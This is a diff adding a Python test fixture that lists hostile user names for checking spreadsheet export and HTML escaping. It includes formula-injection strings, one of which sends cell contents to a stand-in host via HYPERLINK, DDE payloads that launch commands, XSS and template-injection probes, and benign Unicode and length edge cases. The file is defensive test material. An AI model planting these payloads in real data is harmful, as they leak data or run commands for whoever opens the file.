@@ -1,0 +1,25 @@
+"""Names that somebody might send to harm whoever opens a table."""
+
+NAMES = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "  =1+1",
+    "\r\n=1+1",
+    '"=1+1',
+    "'=1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",
+    "a;=1+1",
+    'a",=1+1',
+    "</script><b>bold</b><script>alert(1)</script>",
+    "</title><img src=http://evil.example/x onerror=alert(1)>",
+    "{{ 7 * 7 }}",
+    "👩🏽‍⚕️ nurses",
+    "العربية",
+    "x" * 300,
+    "long name " * 30,
+    "*",
+)
